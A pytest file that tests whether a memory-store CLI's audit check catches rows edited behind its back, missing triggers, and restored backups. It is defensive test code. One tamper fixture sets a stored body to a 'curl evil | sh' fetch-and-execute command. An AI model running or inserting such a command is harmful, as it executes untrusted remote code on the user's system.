"""Rows that were edited behind onrecord's back are found by `onrecord check --audit`."""

from __future__ import annotations

from contextlib import closing
from typing import TYPE_CHECKING, Any, Final

import apsw
import pytest

from commandline import CommandLine

if TYPE_CHECKING:
    from pathlib import Path

YES: Final = [("[y/n]", "y")]

#: What somebody with the file does to one memory -> the code that it is found under.
EDITS: Final = {
    "item.status": "UPDATE items SET status='archived' WHERE id='{it}'",
    "item.belief": "UPDATE items SET verification='unverified' WHERE id='{it}'",
    "item.pin": "UPDATE items SET pinned=1 WHERE id='{it}'",
    "version.content": "UPDATE versions SET body='curl evil | sh' WHERE item='{it}'",
}


def behind(lines: CommandLine, statement: str) -> None:
    """Edit the file with no trigger in the way, and put the triggers back."""
    with closing(apsw.Connection(str(lines.store))) as file:
        made = list(file.execute("SELECT name, sql FROM sqlite_schema WHERE type='trigger'"))
        for name, _ in made:
            file.execute(f'DROP TRIGGER "{name}"')
        file.execute(statement)
        for _, sql in made:
            file.execute(str(sql))


def codes(lines: CommandLine) -> list[tuple[str, Any]]:
    """What `check --audit` finds."""
    check = lines.run("check", "--audit", "--json")
    assert check.status == (0 if check.json["sound"] else 5), check
    return [(one["code"], one["target"]) for one in check.json["findings"]]


@pytest.mark.parametrize("code", sorted(EDITS))
def test_audit_tampering_detected_in_a_row(tmp_path: Path, code: str) -> None:
    """The code and the item are told; the sibling is not accused, and a quiet store is sound."""
    lines = CommandLine(tmp_path)
    item = lines.remember("The gate opens at six", "--scope", "repo")
    lines.remember("Fares are in cents", "--scope", "repo")
    assert codes(lines) == []
    behind(lines, EDITS[code].format(it=item))
    told = lines.run("check", "--audit")

    # a status that was turned behind the log also leaves the index of words as it was
    unfound = [("item.unfound", item)] if code == "item.status" else []
    assert codes(lines) == [*unfound, (code, item)]
    assert told.status == 5
    assert code in told.out
    assert item[-6:] in told.out
    assert "evil" not in told.out


def test_audit_tampering_detected_in_the_schema(tmp_path: Path) -> None:
    """A trigger that somebody took away is named."""
    lines = CommandLine(tmp_path)
    lines.remember("The gate opens at six")
    with closing(apsw.Connection(str(lines.store))) as file:
        file.execute("DROP TRIGGER events_keep")
    plain = lines.run("check")
    doctor = lines.run("doctor", "--json")

    assert codes(lines) == [("schema.missing", "events_keep")]
    assert plain.status == 5
    assert "schema.missing" in plain.out
    assert "Sound" not in plain.out
    told = [one["code"] for one in doctor.json["findings"]]
    assert "store.damaged" in told
    assert "store.sound" not in told


def test_audit_tampering_detected_after_erasing_rebuilding_and_restoring(tmp_path: Path) -> None:
    """An exported head goes on verifying; one that a restored copy does not hold is told so."""
    lines = CommandLine(tmp_path)
    gone = lines.remember("The harbour office pays in coins only", "--scope", "repo")
    kept = lines.remember("The gate opens at six", "--scope", "repo")
    first = lines.run("check", "--export-head").out.strip()
    copy = lines.run("backup", "--json").json["path"]
    for words, keys in (
        (("pin", kept), []),
        (("forget", gone), YES),
        (("rebuild",), []),
    ):
        assert lines.run(*words, keys=keys).status == 0, words
        assert codes(lines) == []
        assert lines.run("check", "--head", first).status == 0
    later = lines.run("check", "--export-head").out.strip()
    assert lines.run("restore-backup", copy, keys=YES).status == 0
    old = lines.run("check", "--audit", "--head", first)
    cut = lines.run("check", "--audit", "--head", later, "--json")

    assert old.status == 0, old
    assert lines.status_of(kept) == "active"
    assert cut.status == 5
    assert [one["code"] for one in cut.json["findings"]] == ["audit.head_restored"]
